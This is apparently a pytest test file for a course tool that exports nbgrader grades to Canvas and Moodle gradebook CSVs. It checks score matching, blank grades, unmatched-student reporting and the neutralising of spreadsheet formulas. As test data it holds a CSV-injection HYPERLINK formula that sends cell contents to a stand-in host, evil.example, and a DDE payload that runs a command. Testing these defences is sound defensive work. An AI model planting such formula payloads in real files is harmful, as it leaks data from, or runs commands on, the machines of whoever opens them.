"""`coursekit export --lms canvas|moodle` on the graded class (tests/conftest.py's fast_class,
copied): the roster fixtures in tests/fixtures/lms are a Canvas gradebook export and a Moodle
grade export with accented names, two sections, a name with commas and quotes, a name that is a
spreadsheet formula, a student who never submitted, a roster id that matches nobody, and a
gradebook student who is not in the roster (dropped).

The output is read back as Canvas reads it (Python's csv module: header, Points Possible row,
numbers), and its scores are compared with `nbgrader export`'s grades.csv, which the fixture
wrote (nbgrader's own total: autograded + TA marks - late penalty).
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from builder import ASSIGNMENT
from coursekit.term import cli, lms
from coursekit.core.layout import CourseLayout

LMS = Path(__file__).resolve().parent.parent / "fixtures" / "lms"
CANVAS = LMS / "canvas_gradebook.csv"
CANVAS_WITH_COLUMN = LMS / "canvas_gradebook_with_column.csv"
MOODLE = LMS / "moodle_grades.csv"
CANVAS_MAP = LMS / "canvas_map.csv"
NEVER_SUBMITTED = "quiet-student"        # in both rosters and in the gradebook, no submission
GHOST = "ghost.student"                  # in the rosters, nobody in the gradebook
DROPPED = "settrace"                     # graded, not in the rosters
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def course(fast_class, tmp_path) -> CourseLayout:
    """A copy of the graded class, with a student the gradebook knows who never submitted."""
    root = tmp_path / "course"
    shutil.copytree(fast_class.course.root, root, symlinks=True)
    layout = CourseLayout.load(root)
    with layout.gradebook() as gb:
        gb.update_or_create_student(NEVER_SUBMITTED, first_name="Sam", last_name="Quiet")
    return layout


def nbgrader_scores(layout: CourseLayout) -> dict[str, str]:
    """student -> score, from the grades.csv `nbgrader export` wrote in the fixture."""
    with open(layout.root / "grades.csv", newline="", encoding="utf-8") as f:
        return {r["student_id"]: r["score"] for r in csv.DictReader(f) if r["assignment"] == ASSIGNMENT}


def canvas_read(path: Path) -> tuple[list[str], list[str], dict[str, dict[str, str]]]:
    """As Canvas reads its import: header, Points Possible row, rows by SIS Login ID."""
    with open(path, newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    header, points = rows[0], rows[1]
    assert points[0].strip() == "Points Possible"
    assert all(len(r) == len(header) for r in rows), "every row has every column"
    return header, points, {r[3]: dict(zip(header, r)) for r in rows[2:]}


def export(layout, *args) -> "click.testing.Result":
    return CliRunner().invoke(cli.main, ["export", "--course", str(layout.root), *args], catch_exceptions=False)


def test_canvas_new_column_scores_blank_and_unmatched(course, tmp_path):
    out = tmp_path / "to_canvas.csv"
    result = export(course, "--lms", "canvas", "--roster", str(CANVAS), "--out", str(out), "--map", str(CANVAS_MAP))
    assert result.exit_code == 1, result.output  # students in one list and not the other
    header, points, rows = canvas_read(out)
    assert header[-1] == ASSIGNMENT, "a column without (id): Canvas creates the assignment on import"
    with course.gradebook() as gb:
        max_score = gb.find_assignment(ASSIGNMENT).max_score
    assert float(points[-1]) == max_score
    expected = nbgrader_scores(course)
    for login, student in [("all-but-training", "all-but-training"), ("late-submission", "late-submission"),
                           ("untouched-release", "untouched-release"), ("stderr-warnings", "stderr-warnings"),
                           ("missing-notebook", "missing-notebook"), ("r.navarro@example.edu", "renamed-notebook")]:
        assert float(rows[login][ASSIGNMENT]) == pytest.approx(float(expected[student]), abs=0.005), login
    late = rows["late-submission"][ASSIGNMENT]
    with course.gradebook() as gb:
        sub = gb.find_submission(ASSIGNMENT, "late-submission")
        assert sub.late_submission_penalty > 0, "the fixture's late submission has a penalty"
        assert float(late) == pytest.approx(sub.score - sub.late_submission_penalty, abs=0.005)
    assert rows[NEVER_SUBMITTED][ASSIGNMENT] == "", "never submitted: blank, not 0"
    assert rows[GHOST][ASSIGNMENT] == "", "no gradebook student: no grade made up"
    assert "Müller, Zoë" in [r["Student"] for r in rows.values()]
    assert {r["Section"] for r in rows.values()} == {"Section A (Mon)", "Section B (Wed)"}
    assert rows["late-submission"]["Notes"] == 'likes commas, and "quotes"'
    # the report and stderr list both kinds of mismatch, never guessed
    assert f"{GHOST}" in result.stdout and DROPPED in result.stdout
    assert f"not matched: {GHOST}" in result.stderr and f"not matched: {DROPPED}" in result.stderr
    assert f"never submitted (left blank, not 0):\n  {NEVER_SUBMITTED}" in result.stdout


def test_canvas_keeps_every_other_byte_and_defuses_formulas(course, tmp_path):
    out = tmp_path / "to_canvas.csv"
    export(course, "--lms", "canvas", "--roster", str(CANVAS), "--out", str(out), "--map", str(CANVAS_MAP))
    original, written = CANVAS.read_bytes(), out.read_bytes()
    assert written.startswith(b"\xef\xbb\xbf") and written.count(b"\r\n") == original.count(b"\r\n")
    old_lines, new_lines = original.decode("utf-8-sig").split("\r\n"), written.decode("utf-8-sig").split("\r\n")
    for old, new in zip(old_lines, new_lines):
        if not old:
            continue
        before_last = new.rsplit(",", 1)[0]  # the new column is the last
        if old.startswith('"=HYPERLINK'):
            # the attack: read as the roster has it, the cell is a formula a spreadsheet runs
            assert next(csv.reader([old]))[0] == FORMULA_NAME
            assert next(csv.reader([before_last]))[0] == "'" + FORMULA_NAME
            assert before_last.endswith(old[old.index(",5004,"):])
        else:
            assert before_last == old, "every other cell as it was, byte for byte"
    # no cell of the output starts a formula
    with open(out, newline="", encoding="utf-8-sig") as f:
        for row in csv.reader(f):
            assert not any(c.startswith(("=", "+", "@")) for c in row), row


def test_canvas_existing_column_filled_in_place_and_idempotent(course, tmp_path):
    roster = tmp_path / "canvas.csv"
    shutil.copy(CANVAS_WITH_COLUMN, roster)
    first = export(course, "--lms", "canvas", "--roster", str(roster), "--map", str(CANVAS_MAP))
    assert first.exit_code == 1, first.output
    once = roster.read_bytes()
    header, points, rows = canvas_read(roster)
    assert header == next(csv.reader([CANVAS_WITH_COLUMN.read_text().splitlines()[0]])), "no column added"
    assert points[header.index("week2 (20002)")] == "47.00", "the Points Possible row as it was"
    expected = nbgrader_scores(course)
    assert float(rows["all-but-training"]["week2 (20002)"]) == pytest.approx(float(expected["all-but-training"]),
                                                                             abs=0.005)
    assert rows[NEVER_SUBMITTED]["week2 (20002)"] == ""
    assert rows[GHOST]["week2 (20002)"] == "2", "a row that matches nobody is left as it was"
    assert b"\r\n" not in once and once.count(b"\n") == CANVAS_WITH_COLUMN.read_bytes().count(b"\n")
    second = export(course, "--lms", "canvas", "--roster", str(roster), "--map", str(CANVAS_MAP))
    assert roster.read_bytes() == once, "exporting again changes nothing"
    assert second.exit_code == first.exit_code and second.stderr == first.stderr
    assert "1 cell(s) that a spreadsheet would run as a formula were quoted" in first.stdout
    assert "formula" not in second.stdout, "already quoted: nothing to do the second time"
    again = tmp_path / "again.csv"
    export(course, "--lms", "canvas", "--roster", str(CANVAS_WITH_COLUMN), "--out", str(again), "--map", str(CANVAS_MAP))
    assert again.read_bytes() == once, "same input, same bytes"


def test_canvas_without_the_map_lists_the_student_instead_of_guessing(course, tmp_path):
    out = tmp_path / "to_canvas.csv"
    result = export(course, "--lms", "canvas", "--roster", str(CANVAS), "--out", str(out))
    _, _, rows = canvas_read(out)
    assert rows["r.navarro@example.edu"][ASSIGNMENT] == ""
    assert "not matched: renamed-notebook" in result.stderr
    assert "not matched: r.navarro@example.edu" in result.stderr


def test_canvas_ambiguous_or_foreign_file_is_a_usage_error(course, tmp_path):
    twice = tmp_path / "twice.csv"
    text = CANVAS_WITH_COLUMN.read_text().replace("Notes,", "week2 (20003),", 1)
    twice.write_text(text)
    result = export(course, "--lms", "canvas", "--roster", str(twice), "--out", str(tmp_path / "o.csv"))
    assert result.exit_code == 2 and "--column" in result.output
    foreign = tmp_path / "foreign.csv"
    foreign.write_text("name,score\nalice,3\n")
    result = export(course, "--lms", "canvas", "--roster", str(foreign), "--out", str(tmp_path / "o.csv"))
    assert result.exit_code == 2 and "not a Canvas gradebook export" in result.output
    assert not (tmp_path / "o.csv").exists()


def test_moodle_idnumber_with_roster(course, tmp_path):
    out = tmp_path / "moodle.csv"
    result = export(course, "--lms", "moodle", "--moodle-id", "idnumber", "--roster", str(MOODLE), "--out", str(out))
    assert result.exit_code == 1, result.output
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["ID number", ASSIGNMENT]
    got = dict(rows[1:])
    expected = nbgrader_scores(course)
    assert set(got) == {"all-but-training", "late-submission", "untouched-release", NEVER_SUBMITTED}
    for student in ("all-but-training", "late-submission", "untouched-release"):
        assert float(got[student]) == pytest.approx(float(expected[student]), abs=0.005)
    assert got[NEVER_SUBMITTED] == ""
    assert f"not matched: {GHOST}" in result.stderr and f"not matched: {DROPPED}" in result.stderr


def test_moodle_email_from_the_gradebook(course, tmp_path):
    with course.gradebook() as gb:
        gb.update_or_create_student("all-but-training", email="zoe.muller@example.edu")
        gb.update_or_create_student("late-submission", email="=cmd|' /C calc'!A0")
    out = tmp_path / "moodle.csv"
    result = export(course, "--lms", "moodle", "--out", str(out))
    assert result.exit_code == 1  # most students have no email in the gradebook: listed
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["Email address", ASSIGNMENT]
    got = dict(rows[1:])
    assert float(got["zoe.muller@example.edu"]) == pytest.approx(float(nbgrader_scores(course)["all-but-training"]))
    assert "'=cmd|' /C calc'!A0" in got, "an email that is a formula is written as text"
    assert "not matched: untouched-release" in result.stderr
    first = out.read_bytes()
    export(course, "--lms", "moodle", "--out", str(out))
    assert out.read_bytes() == first


@pytest.mark.parametrize("text", [
    'a,b\r\n"x, y","he said ""hi"""\r\n',
    'a,b\n"multi\nline",2\n',
    'a,,c\n"",x',
    '\ufeffStudent,ID\r\n"=1+1",5\r\n',
])
def test_records_read_as_the_csv_module_reads_them_and_write_back_unchanged(text):
    records = lms.split_records(text)
    assert [r.values for r in records] == list(csv.reader(io.StringIO(text, newline="")))
    assert "".join(r.raw for r in records) == text
